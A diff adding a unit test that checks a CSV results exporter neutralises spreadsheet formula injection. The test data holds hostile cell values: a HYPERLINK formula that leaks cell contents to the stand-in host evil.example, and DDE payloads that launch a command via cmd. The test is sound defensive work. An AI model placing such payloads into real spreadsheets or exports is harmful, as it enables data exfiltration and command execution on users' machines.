@@ -53,6 +53,30 @@ describe('exportResults', () => {
       '"[""s0""]","[""s0#1""]",answer 0');
   });
 
+  it('neutralises CSV cells a spreadsheet would run as formulas (text from datasets and replies), numbers kept', async () => {
+    const hostile = join(dir, 'formulas.duckdb');
+    const store = await openResultStore(hostile);
+    const batch = fakeBatch('r1', 0, ['bm25']);
+    batch.question.text = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    batch.question.answer = '+1+cmd|\' /C calc\'!A0';
+    batch.question.nativeType = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+    batch.question.evidenceSessionIds = ['-2+3'];
+    await store.writeQuestion(batch);
+    await store.close();
+    const out = join(dir, 'csv-formulas');
+    await exportResults(hostile, { format: 'csv', outDir: out, tables: ['questions', 'scores'] });
+    const text = readFileSync(join(out, 'questions.csv'), 'utf8');
+    const cells = text.trim().split('\n')[1]!;
+    // Every text cell starts with a character a spreadsheet shows as text; the values are otherwise unchanged.
+    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(cells).toContain(`'+1+cmd|' /C calc'!A0`);
+    expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(cells).not.toMatch(/(^|,)[=+\-@]/u);
+    // Numeric cells (scores) stay numbers, a negative one included.
+    const scores = readFileSync(join(out, 'scores.csv'), 'utf8');
+    expect(scores).not.toContain("'");
+  });
+
   it('rejects an unknown table name before writing anything', async () => {
     await expect(exportResults(file, { format: 'csv', outDir: join(dir, 'x'), tables: ['nope'] })).rejects.toThrow(/unknown table nope/);
   });
